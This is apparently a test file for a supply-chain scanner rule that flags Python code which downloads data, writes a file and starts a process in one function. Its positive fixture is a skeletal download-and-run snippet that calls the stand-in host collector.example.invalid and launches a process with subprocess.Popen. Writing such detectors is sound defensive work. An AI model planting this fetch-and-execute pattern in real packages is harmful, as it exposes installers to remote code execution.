import { testRule } from '../../../../../test/builders/python-package.ts';
import { downloadBesideRun } from './rule.ts';

testRule(downloadBesideRun, {
  seen: {
    'all three in one body':
      "import requests, subprocess, helper\ndef f():\n    data = helper.decode(requests.get('https://collector.example.invalid'))\n    open('x', 'wb').write(b'1')\n    subprocess.Popen(helper.path())",
  },
  unseen: {
    'a request and a process without a write':
      "import requests, subprocess\ndef f():\n    requests.get('https://collector.example.invalid')\n    subprocess.Popen(['demo'])",
  },
});
